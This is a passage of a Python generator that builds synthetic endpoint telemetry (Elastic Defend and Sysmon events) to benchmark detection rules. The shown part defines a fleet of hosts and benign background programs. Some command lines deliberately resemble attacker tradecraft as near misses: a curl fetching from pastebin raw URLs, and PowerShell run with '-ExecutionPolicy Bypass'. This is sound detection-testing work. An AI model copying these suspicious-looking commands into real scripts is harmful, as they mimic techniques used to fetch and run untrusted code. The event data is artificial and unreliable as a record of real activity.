"""Deterministic ECS endpoint events for benchmarks, with planted true positives.

    .venv/bin/python bench/generate.py [--events 1000000] [--seed 0] [--duration 24h]
                                       [--noisy] [--output bench/data/NAME.ndjson[.gz]] [--force]

A fleet of Windows (Elastic Defend, and some hosts with Sysmon through the Windows
integration), Linux and macOS hosts runs a realistic process population: long-running services
and apps, short-lived processes started by their usual parents, each doing what that program
does (file, registry, library, network and DNS events). Documents have the shapes Elastic Defend
and Sysmon produce, with `data_stream.*` set, so a store names the indices
`logs-endpoint.events.<kind>-default` and `logs-windows.sysmon_operational-default`.

On top of that noise, each entry of PLANTS (one function per detection rule) plants the events
that make its rule fire a known number of times, spread over the time range. The manifest
written beside the NDJSON (`<name>.manifest.json`) lists, per rule_id, the `event.id`s of every
planted event and of each expected hit (one id per hit for an event query, the ids of a
sequence's events in order for a sequence query). Background programs are built so that none of
the planted rules fires on them: near misses stay on the excluded side of each rule.

`--noisy` plants the same patterns as often as a bad rule or a noisy host fires: about one
event in seven is a hit of some planted rule (NOISY_RATES), the rest is the same background.
Its default file name ends in `-noisy`, so that it is cached beside the normal corpus.

The output depends only on (events, seed, duration, start, noisy): a seeded random.Random drives
everything and no clock is read, so the same arguments give the same bytes. For speed, every
constant part of a document (host, agent, process, the details of a file or connection) is
rendered to JSON once, and each event is one f-string joining those parts.
"""

from __future__ import annotations

import argparse
import base64
import gzip
import hashlib
import heapq
import io
import os
import re
import sys
import time
from collections import Counter, deque
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from random import Random
from typing import IO, Any, TypeVar

import orjson

ROOT = Path(__file__).resolve().parent.parent
DATA = ROOT / "bench" / "data"

# Bump when the output for given arguments changes, so that cached corpora are regenerated.
GENERATOR_VERSION = 2
DEFAULT_EVENTS = 1_000_000
DEFAULT_SEED = 0
DEFAULT_DURATION = timedelta(hours=24)
DEFAULT_START = datetime(2025, 3, 3, 6, 0, tzinfo=UTC)
# Fewer events than this leave too little background around the planted ones.
MIN_EVENTS = 1_000
# The shortest range: one scheduled rule window (most prebuilt rules run every 5 minutes).
MIN_DURATION = timedelta(minutes=5)
# Plants start this long after the range starts and end this long before it ends: a plant's
# events reach up to 8 s before its instant and 55 s after it, and must stay inside the range.
PLANT_LEAD_MS = 10_000
PLANT_TAIL_MS = 60_000

# Fleet: (os, Sysmon instead of Defend, server, how many hosts).
FLEET = (("windows", False, False, 65), ("windows", False, True, 15), ("windows", True, False, 20),
         ("linux", False, True, 35), ("macos", False, False, 15))  # fmt: skip
# Relative share of events per host, by (os, server).
HOST_WEIGHT = {("windows", False): 2, ("windows", True): 3, ("linux", True): 3, ("macos", False): 2}
# Chance that an event slot starts a new process, and how many short-lived ones run at once.
START_RATE = {"windows": 0.07, "linux": 0.12, "macos": 0.08}
TRANSIENT_CAP = {"windows": 14, "linux": 20, "macos": 12}
POOL_SIZE = 32  # pre-rendered details per (host, pool, account)
BURSTS = (1, 1, 1, 1, 2, 2, 3, 4)  # events one actor emits at the same millisecond

SYSTEM, LOCAL_SERVICE, NETWORK_SERVICE = "S-1-5-18", "S-1-5-19", "S-1-5-20"
WINDOWS_ACCOUNTS = {
    "system": ("NT AUTHORITY", "SYSTEM", SYSTEM),
    "local_service": ("NT AUTHORITY", "LOCAL SERVICE", LOCAL_SERVICE),
    "network_service": ("NT AUTHORITY", "NETWORK SERVICE", NETWORK_SERVICE),
}
MZ = "4d5a90000300000004000000ffff0000"
HEADERS = {"exe": MZ, "dll": MZ, "pdf": "255044462d312e370d0a25b5b5b5b50d",
           "docx": "504b0304140006000800000021007a60", "xlsx": "504b030414000600080000002100a3d1",
           "pptx": "504b0304140006000800000021002e8f", "zip": "504b030414000000080071a4",
           "png": "89504e470d0a1a0a0000000d49484452", "txt": "4d656574696e67206e6f7465730d0a2d",
           "csv": "446174652c4163636f756e742c416d6f", "ps1": "23205265717569726573202d56657273",
           "log": "323032352d30332d30332030363a3030", "tmp": "00000000000000000000000000000000",
           "cab": "4d5343460000000072a3020000000000", "crx": "43723234030000004502000012ac0410",
           "json": "7b2276657273696f6e223a22312e3022", "bat": "406563686f206f66660d0a7365742050",
           "dat": "a1b2c3d40000000000000000000000"}  # fmt: skip


# -- time --------------------------------------------------------------------------------------


class Clock:
    """ISO-8601 text of epoch milliseconds; the second's prefix is cached, as events come in
    nearly increasing time order and strftime is the costly part."""

    def __init__(self) -> None:
        self._prefixes: dict[int, str] = {}
        self._second = -1
        self._second_prefix = ""

    def _prefix(self, second: int) -> str:
        prefix = self._prefixes.get(second)
        if prefix is None:
            if len(self._prefixes) > 4096:
                self._prefixes.clear()
            prefix = datetime.fromtimestamp(second, UTC).strftime("%Y-%m-%dT%H:%M:%S")
            self._prefixes[second] = prefix
        return prefix

    def millis(self, ms: int) -> str:
        """`2025-03-03T06:00:00.123Z`, as Defend and the Windows integration write @timestamp."""
        second, rest = divmod(ms, 1000)
        if second != self._second:
            self._second, self._second_prefix = second, self._prefix(second)
        return f"{self._second_prefix}.{rest:03d}Z"

    def seconds(self, ms: int) -> str:
        """`2025-03-03T06:00:21Z`: event.ingested as the sample Defend documents have it."""
        return self._prefix(ms // 1000) + "Z"


def parse_duration(text: str) -> timedelta:
    """`24h`, `90m`, `3600s`, `2d` (or a bare number of seconds)."""
    match = re.fullmatch(r"\s*(\d+(?:\.\d+)?)\s*([smhd]?)\s*", text)
    if not match:
        raise ValueError(f"not a duration: {text!r} (use e.g. 24h, 90m, 3600s, 2d)")
    unit = {"": 1, "s": 1, "m": 60, "h": 3600, "d": 86400}[match.group(2)]
    return timedelta(seconds=float(match.group(1)) * unit)


def duration_label(duration: timedelta) -> str:
    """The shortest exact spelling of a duration, for file names: `24h`, `90m`, `45s`."""
    seconds = int(duration.total_seconds())
    for unit, size in (("d", 86400), ("h", 3600), ("m", 60)):
        if seconds % size == 0:
            return f"{seconds // size}{unit}"
    return f"{seconds}s"


# -- programs ----------------------------------------------------------------------------------


def _argv(*alternatives: str | tuple[str, ...]) -> tuple[tuple[str, ...], ...]:
    """Argument lists after argv[0]: a string is split on spaces, a tuple is kept as it is."""
    return tuple(tuple(alt.split()) if isinstance(alt, str) else alt for alt in alternatives)


@dataclass(frozen=True, slots=True)
class Program:
    """A program as the fleet runs it: where it lives, how it is started, by whom, and what it
    does once running (`activity`: pool names, repeated for weight).

    `starts` 0 means it runs for the whole time range (started before it: no start event);
    otherwise it is short-lived and `starts` weighs how often a new instance starts. Text may
    hold {user}, {n}, {hex}, {guid}, {host} and {ip}, filled per instance.
    """

    key: str
    os: str
    executable: str
    argv: tuple[tuple[str, ...], ...] = ((),)
    signer: tuple[str, bool] | None = None
    account: str = "user"
    parent: str | None = None
    activity: tuple[str, ...] = ()
    busy: int = 1
    starts: int = 0


MS = ("Microsoft Windows", True)
MS_CORP = ("Microsoft Corporation", True)
GOOGLE = ("Google LLC", True)
APPLE = ("Software Signing", True)

_SYS32 = "C:\\Windows\\System32\\"
_POWERSHELL = _SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"
_CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
_CHROME_RENDERER = (
    "--type=renderer --string-annotations --no-pre-read-main-dll --video-capture-use-gpu-memory"
    "-buffer --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-bef"
    "ore-activation --renderer-client-id={n} --time-ticks-at-unix-epoch=-1740{n}412 --launch-tim"
    "e-ticks={n}0563 --field-trial-handle=1960,i,{n}7349,{n}1195,262144 --variations-seed-versio"
    "n=20250227-050044.736000 --mojo-platform-channel-handle={n} /prefetch:1"
)
_ATP_SCRIPT = (
    "C:\\ProgramData\\Microsoft\\Windows Defender Advanced Threat Protection\\Downloads\\"
    "PSScript_{guid}.ps1"
)

WINDOWS_PROGRAMS = (
    # Running for the whole range; parents first.
    Program("System", "windows", "System", signer=MS, account="system",
            activity=("net.smb", "net.smb", "file.system"), busy=2),
    Program("services", "windows", _SYS32 + "services.exe", signer=MS, account="system",
            activity=("reg.system",)),
    Program("lsass", "windows", _SYS32 + "lsass.exe", signer=MS, account="system",
            parent="services", activity=("net.internal", "reg.system", "lib.common")),
    Program("svchost:DcomLaunch", "windows", _SYS32 + "svchost.exe",
            _argv("-k DcomLaunch -p"), MS, "system", "services", ("reg.system", "lib.common")),
    Program("svchost:UsoSvc", "windows", _SYS32 + "svchost.exe",
            _argv("-k netsvcs -p -s UsoSvc"), MS, "system", "services",
            ("reg.system", "reg.system", "file.system", "dns.system", "net.web")),
    Program("svchost:BITS", "windows", _SYS32 + "svchost.exe",
            _argv("-k netsvcs -p -s BITS"), MS, "system", "services",
            ("file.bits", "file.bits", "net.web", "dns.system")),
    Program("svchost:Schedule", "windows", _SYS32 + "svchost.exe",
            _argv("-k netsvcs -p -s Schedule"), MS, "system", "services",
            ("reg.system", "file.system")),
    Program("svchost:LocalService", "windows", _SYS32 + "svchost.exe",
            _argv("-k LocalServiceNetworkRestricted -p"), MS, "local_service", "services",
            ("reg.system", "file.system", "net.internal")),
    Program("MsMpEng", "windows",
            "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25010.11-0\\"
            "MsMpEng.exe", signer=MS_CORP, account="system", parent="services",
            activity=("file.system", "lib.common", "dns.system", "reg.system"), busy=2),
    Program("explorer", "windows", "C:\\Windows\\explorer.exe", signer=MS, parent="userinit",
            activity=("file.docs", "reg.user", "reg.user", "lib.common"), busy=2),
    Program("userinit", "windows", _SYS32 + "userinit.exe", signer=MS),
    # Apps of workstation users (each host runs some of them).
    Program("chrome", "windows", _CHROME, signer=GOOGLE, parent="explorer",
            activity=("dns.browser", "dns.browser", "net.web", "net.web", "file.browser",
                      "file.browser", "lib.chrome"), busy=4),
    Program("msedge", "windows",
            "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", signer=MS_CORP,
            parent="explorer", activity=("dns.browser", "net.web", "file.browser"), busy=2),
    Program("OneDrive", "windows",
            "C:\\Users\\{user}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe",
            _argv("/background"), MS_CORP, parent="explorer",
            activity=("dns.onedrive", "net.web", "file.docs")),
    Program("Outlook", "windows",
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", signer=MS_CORP,
            parent="explorer", activity=("dns.office", "net.web", "file.office", "lib.office",
                                         "reg.user"), busy=2),
    Program("Teams", "windows",
            "C:\\Program Files\\WindowsApps\\MSTeams_25031.805.3440.5290_x64__8wekyb3d8bbwe\\"
            "ms-teams.exe", signer=MS_CORP, parent="explorer",
            activity=("dns.office", "net.web", "file.office")),
    Program("Slack", "windows",
            "C:\\Users\\{user}\\AppData\\Local\\slack\\app-4.43.43\\slack.exe",
            signer=("Slack Technologies, LLC", True), parent="explorer",
            activity=("dns.slack", "net.web", "file.browser")),
    Program("Code", "windows",
            "C:\\Users\\{user}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe",
            signer=MS_CORP, parent="explorer",
            activity=("dns.dev", "net.web", "file.dev", "file.dev")),
    # Server roles.
    Program("w3wp", "windows", "c:\\windows\\system32\\inetsrv\\w3wp.exe",
            _argv(('-ap', '"DefaultAppPool"', '-v', '"v4.0"', '-l', '"webengine4.dll"', '-a',
                   '\\\\.\\pipe\\iisipm{guid}', '-h',
                   '"C:\\inetpub\\temp\\apppools\\DefaultAppPool\\DefaultAppPool.config"', '-w',
                   '""', '-m', '0')),
            MS, "network_service", "svchost:LocalService",
            ("net.inbound", "net.internal", "file.iis", "lib.dotnet"), busy=3),
    Program("sqlservr", "windows",
            "C:\\Program Files\\Microsoft SQL Server\\MSSQL16.MSSQLSERVER\\MSSQL\\Binn\\"
            "sqlservr.exe", _argv("-sMSSQLSERVER"), MS_CORP, "system", "services",
            ("net.inbound", "file.sql"), busy=3),
    # Short-lived.
    Program("chrome:renderer", "windows", _CHROME, _argv(_CHROME_RENDERER), GOOGLE,
            parent="chrome", activity=("lib.chrome", "file.browser"), starts=8),
    Program("cmd", "windows", _SYS32 + "cmd.exe",
            _argv(("/c", "ipconfig /all"), ("/d", "/c", "git status --porcelain"),
                  ("/c", "dir /s /b C:\\Users\\{user}\\Documents > %TEMP%\\files.txt"),
                  ("/c", "C:\\Users\\{user}\\scripts\\sync.bat")),
            MS, parent="explorer", activity=("file.temp", "lib.common"), starts=4),
    Program("conhost", "windows", _SYS32 + "conhost.exe", _argv("0xffffffff -ForceV1"), MS,
            parent="cmd", activity=("lib.common",), starts=4),
    Program("powershell", "windows", _POWERSHELL,
            _argv("-NoLogo", "-NoProfile -ExecutionPolicy Bypass -File "
                  "C:\\Users\\{user}\\scripts\\backup-profile.ps1",
                  ("-NoProfile", "-Command", "Get-ChildItem -Path C:\\Users\\{user}\\Documents "
                   "-Recurse -Filter *.xlsx | Measure-Object -Property Length -Sum"),
                  ("-Command", "Update-Module -Name Az.Accounts -Force")),
            MS, parent="explorer",
            activity=("dns.powershell", "file.powershell", "file.powershell", "lib.dotnet",
                      "lib.common", "reg.user"), busy=2, starts=2),
    Program("powershell:atp", "windows", _POWERSHELL,
            _argv(("-ExecutionPolicy", "AllSigned", "-NoProfile", "-NonInteractive", "-File",
                   _ATP_SCRIPT)),
            MS, "system", "svchost:Schedule",
            ("file.powershell", "lib.dotnet", "dns.powershell"), starts=1),
    Program("rundll32", "windows", _SYS32 + "rundll32.exe",
            _argv("C:\\Windows\\System32\\shell32.dll,SHCreateLocalServerRunDll "
                  "{{{guid}}} -Embedding",
                  "C:\\Windows\\system32\\inetcpl.cpl,ClearMyTracksByProcess Flags:65800 "
                  "WinX:0 WinY:0 IEFrame:0000000000000000"),
            MS, parent="svchost:DcomLaunch", activity=("lib.common", "reg.user"), starts=2),
    Program("taskhostw", "windows", _SYS32 + "taskhostw.exe", _argv("", "Install $(Arg0)"),
            MS, parent="svchost:Schedule", activity=("reg.user", "lib.common"), starts=2),
    Program("backgroundTaskHost", "windows", _SYS32 + "backgroundTaskHost.exe",
            _argv("-ServerName:BackgroundTaskHost.WebAccountProvider",
                  "-ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca"),
            MS, parent="svchost:DcomLaunch", activity=("reg.user", "dns.system"), starts=2),
    Program("RuntimeBroker", "windows", _SYS32 + "RuntimeBroker.exe", _argv("-Embedding"), MS,
            parent="svchost:DcomLaunch", activity=("reg.user", "lib.common"), starts=2),
    Program("dllhost", "windows", _SYS32 + "dllhost.exe", _argv("/Processid:{{{guid}}}"), MS,
            parent="svchost:DcomLaunch", activity=("lib.common", "reg.user"), starts=2),
    Program("WmiPrvSE", "windows", _SYS32 + "wbem\\WmiPrvSE.exe", _argv("-secured -Embedding"),
            MS, "network_service", "svchost:DcomLaunch", ("reg.system", "lib.common"),
            starts=2),
    Program("UsoClient", "windows", _SYS32 + "UsoClient.exe",
            _argv("StartScan", "StartDownload", "StartInstall", "RefreshSettings"), MS,
            "system", "svchost:UsoSvc", ("reg.system", "file.system"), starts=1),
    Program("MoUsoCoreWorker", "windows", _SYS32 + "MoUsoCoreWorker.exe", _argv("-Embedding"),
            MS, "system", "svchost:UsoSvc", ("reg.system", "net.web", "dns.system"), starts=1),
    Program("MusNotification", "windows", _SYS32 + "MusNotification.exe", _argv(""), MS,
            "system", "svchost:UsoSvc", ("reg.system",), starts=1),
    Program("WerFault", "windows", _SYS32 + "WerFault.exe", _argv("-u -p {n} -s {n}"), MS,
            "system", "svchost:UsoSvc", ("file.system",), starts=1),
    Program("git", "windows", "C:\\Program Files\\Git\\cmd\\git.exe",
            _argv("fetch --all --prune", "pull --rebase", "status --porcelain=v2"),
            ("Johannes Schindelin", True), parent="Code", activity=("dns.git", "file.dev"),
            starts=2),
    Program("python", "windows",
            "C:\\Users\\{user}\\AppData\\Local\\Programs\\Python\\Python312\\python.exe",
            _argv("-m pip list --outdated", "manage.py test --parallel 4",
                  "C:\\Users\\{user}\\scripts\\report.py --since 7d"),
            ("Python Software Foundation", True), parent="cmd",
            activity=("dns.pypi", "file.dev"), starts=1),
    Program("notepad", "windows", _SYS32 + "notepad.exe",
            _argv("C:\\Users\\{user}\\Documents\\notes.txt", ""), MS, parent="explorer",
            activity=("file.docs",), starts=1),
    Program("msiexec", "windows", _SYS32 + "msiexec.exe", _argv("/V"), MS, "system",
            "services", ("file.system", "reg.system"), starts=1),
    Program("GoogleUpdate", "windows",
            "C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe",
            _argv("/ua /installsource scheduler", "/c"), GOOGLE, "system", "svchost:Schedule",
            ("dns.google_update", "net.web"), starts=1),
    Program("sc", "windows", _SYS32 + "sc.exe", _argv("query wuauserv", "start BITS"), MS,
            parent="cmd", activity=("reg.system",), starts=1),
)

_LINUX_BASH = "/usr/bin/bash"
LINUX_PROGRAMS = (
    Program("systemd", "linux", "/usr/lib/systemd/systemd",
            _argv("--system --deserialize 31"), account="root", activity=("file.linux_sys",)),
    Program("sshd", "linux", "/usr/sbin/sshd", _argv("-D"), account="root", parent="systemd",
            activity=("net.ssh",)),
    Program("cron", "linux", "/usr/sbin/cron", _argv("-f -P"), account="root",
            parent="systemd", activity=("file.linux_sys",)),
    Program("dockerd", "linux", "/usr/bin/dockerd",
            _argv("-H fd:// --containerd=/run/containerd/containerd.sock"), account="root",
            parent="systemd", activity=("file.docker", "net.linux_internal", "dns.linux")),
    Program("containerd", "linux", "/usr/bin/containerd", account="root", parent="systemd",
            activity=("file.docker",)),
    Program("nginx", "linux", "/usr/sbin/nginx",
            _argv(("-g", "daemon on; master_process on;")), account="root", parent="systemd",
            activity=("net.http_in", "net.http_in", "file.nginx"), busy=3),
    Program("node", "linux", "/usr/bin/node", _argv("/srv/app/dist/server.js"),
            account="app", parent="systemd",
            activity=("net.linux_internal", "net.linux_web", "dns.linux", "file.app"), busy=3),
    Program("java", "linux", "/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
            _argv("-Xms2g -Xmx2g -XX:+UseG1GC -Dspring.profiles.active=prod -jar "
                  "/opt/orders/orders-service-3.14.2.jar"),
            account="app", parent="systemd",
            activity=("net.linux_internal", "file.app", "dns.linux"), busy=3),
    Program("postgres", "linux", "/usr/lib/postgresql/16/bin/postgres",
            _argv("-D /var/lib/postgresql/16/main -c "
                  "config_file=/etc/postgresql/16/main/postgresql.conf"),
            account="postgres", parent="systemd", activity=("file.pg", "net.pg_in"), busy=2),
    Program("bash", "linux", _LINUX_BASH, _argv("", "-l"), parent="sshd",
            activity=("file.home",), starts=3),
    Program("sudo", "linux", "/usr/bin/sudo",
            _argv("systemctl restart nginx", "apt-get update", "journalctl -u orders -n 200"),
            parent="bash", activity=("file.linux_sys",), starts=2),
    Program("apt-get", "linux", "/usr/bin/apt-get", _argv("update", "-y upgrade"),
            account="root", parent="sudo",
            activity=("dns.linux", "net.linux_web", "file.apt", "file.apt"), starts=1),
    Program("curl", "linux", "/usr/bin/curl",
            _argv("-fsSL https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.1/install.sh",
                  "-s http://localhost:8080/health", "-sS https://api.github.com/rate_limit"),
            parent="bash", activity=("dns.linux", "net.linux_web"), starts=2),
    Program("python3", "linux", "/usr/bin/python3",
            _argv("/opt/scripts/rotate_reports.py --keep 14", "-m pip install -U requests"),
            parent="bash", activity=("file.home", "dns.linux"), starts=2),
    Program("git", "linux", "/usr/bin/git", _argv("pull --ff-only", "fetch origin"),
            parent="bash", activity=("dns.linux", "file.home"), starts=1),
    Program("sh:cron", "linux", "/usr/bin/sh",
            _argv(("-c", "cd / && run-parts --report /etc/cron.hourly"),
                  ("-c", "test -x /usr/sbin/logrotate && /usr/sbin/logrotate /etc/logrotate.conf")),
            account="root", parent="cron", activity=("file.linux_sys",), starts=3),
    Program("logrotate", "linux", "/usr/sbin/logrotate", _argv("/etc/logrotate.conf"),
            account="root", parent="sh:cron", activity=("file.linux_sys", "file.nginx"),
            starts=1),
    Program("runc", "linux", "/usr/bin/runc",
            _argv("--root /var/run/docker/runtime-runc/moby --log /run/containerd/io.containerd."
                  "runtime.v2.task/moby/{hex}/log.json --log-format json exec --process "
                  "/tmp/runc-process{n} --detach --pid-file /run/containerd/{hex}.pid {hex}"),
            account="root", parent="containerd", activity=("file.docker",), starts=3),
    Program("ps", "linux", "/usr/bin/ps", _argv("aux", "-ef"), parent="bash", starts=2),
    Program("systemctl", "linux", "/usr/bin/systemctl", _argv("status nginx", "is-active orders"),
            parent="bash", starts=1),
)

_SAFARI = "/Applications/Safari.app/Contents/MacOS/Safari"
_MAC_CHROME = "/Applications/Google Chrome.app/Contents/MacOS/Google Chrome"
MACOS_PROGRAMS = (
    Program("launchd", "macos", "/sbin/launchd", signer=APPLE, account="root",
            activity=("file.mac_system",)),
    Program("Finder", "macos", "/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder",
            signer=APPLE, parent="launchd", activity=("file.mac_user", "lib.mac")),
    Program("Safari", "macos", _SAFARI, signer=APPLE, parent="launchd",
            activity=("dns.mac", "net.web", "file.mac_user", "lib.mac"), busy=3),
    Program("Chrome", "macos", _MAC_CHROME, signer=("Developer ID Application: Google LLC", True),
            parent="launchd", activity=("dns.mac", "net.web", "file.mac_user"), busy=3),
    Program("mds_stores", "macos",
            "/System/Library/Frameworks/CoreServices.framework/Versions/A/Frameworks/"
            "Metadata.framework/Versions/A/Support/mds_stores", signer=APPLE, account="root",
            parent="launchd", activity=("file.mac_system",)),
    Program("softwareupdated", "macos",
            "/System/Library/PrivateFrameworks/SoftwareUpdate.framework/Resources/"
            "softwareupdated", signer=APPLE, account="root", parent="launchd",
            activity=("dns.mac", "net.web")),
    Program("zsh", "macos", "/bin/zsh", _argv("-l"), APPLE, parent="launchd",
            activity=("file.mac_user",), starts=2),
    Program("mdworker", "macos",
            "/System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata.framework/"
            "Versions/A/Support/mdworker_shared",
            _argv("-s mdworker -c MDSImporterWorker -m com.apple.mdworker.shared"), APPLE,
            parent="launchd", activity=("file.mac_user", "lib.mac"), starts=3),
    Program("curl", "macos", "/usr/bin/curl",
            _argv("-fsSL https://pastebin.com/raw/{hex}", "-sI https://www.apple.com"), APPLE,
            parent="zsh", activity=("dns.mac", "net.web"), starts=1),
    Program("git", "macos", "/usr/bin/git", _argv("pull", "status"), APPLE, parent="zsh",
            activity=("dns.mac", "file.mac_user"), starts=1),
    Program("xpcproxy", "macos", "/usr/libexec/xpcproxy", _argv("com.apple.{hex}"), APPLE,
            "root", "launchd", ("lib.mac",), starts=3),
    Program("chrome:renderer", "macos",
            "/Applications/Google Chrome.app/Contents/Frameworks/Google Chrome Framework."
            "framework/Versions/133.0.6943.142/Helpers/Google Chrome Helper (Renderer).app/"
            "Contents/MacOS/Google Chrome Helper (Renderer)",
            _argv(_CHROME_RENDERER), ("Developer ID Application: Google LLC", True),
            parent="Chrome", activity=("lib.mac",), starts=4),
)

PROGRAMS = {(p.os, p.key): p for p in (*WINDOWS_PROGRAMS, *LINUX_PROGRAMS, *MACOS_PROGRAMS)}
# Programs that run for the whole range, by host kind (apps are added per host).
CORE = {
    ("windows", False): ("System", "services", "lsass", "svchost:DcomLaunch", "svchost:UsoSvc",
                         "svchost:BITS", "svchost:Schedule", "svchost:LocalService", "MsMpEng",
                         "explorer"),
    ("windows", True): ("System", "services", "lsass", "svchost:DcomLaunch", "svchost:UsoSvc",
                        "svchost:BITS", "svchost:Schedule", "svchost:LocalService", "MsMpEng",
                        "explorer"),
    ("linux", True): ("systemd", "sshd", "cron", "dockerd", "containerd"),
    ("macos", False): ("launchd", "Finder", "Safari", "mds_stores", "softwareupdated"),
}
# Optional apps: (program key, share of hosts running it).
APPS = {
    ("windows", False): (("chrome", 0.8), ("msedge", 0.3), ("OneDrive", 0.9), ("Outlook", 0.9),
                         ("Teams", 0.7), ("Slack", 0.4), ("Code", 0.3)),
    ("windows", True): (("w3wp", 0.5), ("sqlservr", 0.4)),
    ("linux", True): (("nginx", 0.5), ("node", 0.4), ("java", 0.4), ("postgres", 0.3)),
    ("macos", False): (("Chrome", 0.7),),
}
# Short-lived programs a host kind never starts (no such parent there).
NOT_ON_SERVERS = frozenset({"chrome:renderer", "git", "python", "notepad"})


# -- hosts, processes and event kinds ----------------------------------------------------------


@dataclass(frozen=True, slots=True)
class EventKind:
    """What `event.*` says, rendered once: the index the event lands in, its `event` members
    after the per-event ones, and the message (Defend) or winlog event id (Sysmon)."""

    key: str
    dataset: str
    tail: str
    message: str = ""
    code: str = ""
    full_process: bool = False


_DEFEND_KINDS = {  # key: (data stream kind, category, type, action)
    "process.start": ("process", "process", ["start"], "start"),
    "process.end": ("process", "process", ["end"], "end"),
    "file.creation": ("file", "file", ["creation"], "creation"),
    "file.modification": ("file", "file", ["change"], "modification"),
    "file.deletion": ("file", "file", ["deletion"], "deletion"),
    "file.rename": ("file", "file", ["change"], "rename"),
    "library.load": ("library", "library", ["start"], "load"),
    "registry.modification": ("registry", "registry", ["change"], "modification"),
    "registry.query": ("registry", "registry", ["access"], "query"),
    "network.connect": ("network", "network", ["start"], "connection_attempted"),
    "network.accept": ("network", "network", ["start"], "connection_accepted"),
    "network.disconnect": ("network", "network", ["end"], "disconnect_received"),
    "dns.request": ("network", "network", ["protocol", "info"], "lookup_requested"),
    "dns.result": ("network", "network", ["protocol", "info"], "lookup_result"),
}
_DEFEND_MESSAGES = {"process": "Endpoint process event", "file": "Endpoint file event",
                    "library": "Endpoint DLL load event", "registry": "Endpoint registry event",
                    "network": "Endpoint network event"}  # fmt: skip
_SYSMON_KINDS = {  # key: (event code, category, type, action); other kinds Sysmon does not log
    "process.start": ("1", ["process"], ["start"], "Process creation"),
    "process.end": ("5", ["process"], ["end"], "Process terminated"),
    "file.creation": ("11", ["file"], ["creation"], "FileCreate"),
    "file.modification": ("11", ["file"], ["creation"], "FileCreate"),
    "file.rename": ("11", ["file"], ["creation"], "FileCreate"),
    "file.deletion": ("23", ["file"], ["deletion"], "FileDelete (File Delete archived)"),
    "library.load": ("7", ["process"], ["change"], "Image loaded"),
    "registry.modification": ("13", ["configuration", "registry"], ["change"],
                              "RegistryEvent (Value Set)"),
    "network.connect": ("3", ["network"], ["start", "connection", "protocol"],
                        "Network connection"),
    "network.accept": ("3", ["network"], ["start", "connection", "protocol"],
                       "Network connection"),
    "dns.request": ("22", ["network"], ["connection", "protocol", "info"],
                    "DNSEvent (DNS query)"),
    "dns.result": ("22", ["network"], ["connection", "protocol", "info"],
                   "DNSEvent (DNS query)"),
}
SYSMON_DATASET = "windows.sysmon_operational"


def _defend_kind(os_name: str, key: str) -> EventKind | None:
    kind, category, types, action = _DEFEND_KINDS[key]
    if os_name == "linux" and kind in ("library", "registry"):
        return None
    if os_name == "macos" and kind == "registry":
        return None
    if key == "process.start" and os_name != "windows":
        action = "exec"
    dataset = f"endpoint.events.{kind}"
    tail = orjson.dumps({"kind": "event", "module": "endpoint", "dataset": dataset,
                         "category": [category], "type": types, "action": action}).decode()
    return EventKind(key, dataset, tail[1:-1], _DEFEND_MESSAGES[kind],
                     full_process=kind == "process")


def _sysmon_kind(key: str) -> EventKind | None:
    if key not in _SYSMON_KINDS:
        return None
    code, categories, types, action = _SYSMON_KINDS[key]
    tail = orjson.dumps({"kind": "event", "code": code, "provider": "Microsoft-Windows-Sysmon",
                         "module": "windows", "dataset": SYSMON_DATASET, "category": categories,
                         "type": types, "action": action}).decode()
    return EventKind(key, SYSMON_DATASET, tail[1:-1], code=code,
                     full_process=key.startswith("process."))


def members(document: dict[str, Any]) -> str:
    """A dict's members as JSON text with a trailing comma, to splice into a document."""
    return orjson.dumps(document).decode()[1:-1] + "," if document else ""


class Pool:
    """Pre-rendered details of one pool for one host and kind of account, made on first draw:
    a small corpus never pays for the pools it does not use."""

    __slots__ = ("host", "items", "name", "system")

    def __init__(self, host: Host, name: str, system: bool) -> None:
        self.host = host
        self.name = name
        self.system = system
        self.items: list[tuple[EventKind, str]] = []


@dataclass(slots=True)
class Proc:
    """A running process: its pre-rendered `process` (full for process events, short for the
    rest) and `user` members, and the detail pools its program draws events from."""

    program: Program
    pid: int
    entity_id: str
    name: str
    executable: str
    args: list[str]
    command_line: str
    full: str = ""
    short: str = ""
    user: str = ""
    as_parent: dict[str, Any] = field(default_factory=dict)
    ancestry: list[str] = field(default_factory=list)
    pools: list[Pool] = field(default_factory=list)


@dataclass(slots=True)
class Host:
    """One machine of the fleet, with what is constant in its documents rendered once."""

    name: str
    os: str
    sysmon: bool
    server: bool
    domain: str
    home: str  # the main user's account name
    home_sid: str
    ip: str
    agent_id: str
    id_prefix: str
    guid: str
    heads: dict[str, str] = field(default_factory=dict)  # by dataset
    winlog: str = ""
    kinds: dict[str, EventKind | None] = field(default_factory=dict)
    running: dict[str, Proc] = field(default_factory=dict)  # long-running, by program key
    active: list[Proc] = field(default_factory=list)  # repeated by busy weight
    transients: deque[Proc] = field(default_factory=deque)
    short_lived: list[Program] = field(default_factory=list)  # repeated by starts weight
    pools: dict[tuple[str, bool], Pool] = field(default_factory=dict)
    sequence: int = 0
    record_id: int = 0


# -- detail pools ------------------------------------------------------------------------------

DOC_STEMS = ("Q3_budget_v2", "board-deck-final", "invoice_20418", "expenses_feb", "roadmap-2025",
             "meeting-notes", "team_offsite", "contract_acme_signed", "headcount_plan",
             "customer_list_emea", "OKRs", "release-checklist", "passport_scan", "timesheet_w09",
             "architecture-overview", "pricing_v7", "Onboarding Guide", "vendor_comparison")
BENIGN_DOMAINS = ("www.bing.com", "www.msn.com", "settings-win.data.microsoft.com",
                  "login.microsoftonline.com", "ctldl.windowsupdate.com", "www.google.com",
                  "github.com", "pypi.org", "www.python.org", "ocsp.digicert.com",
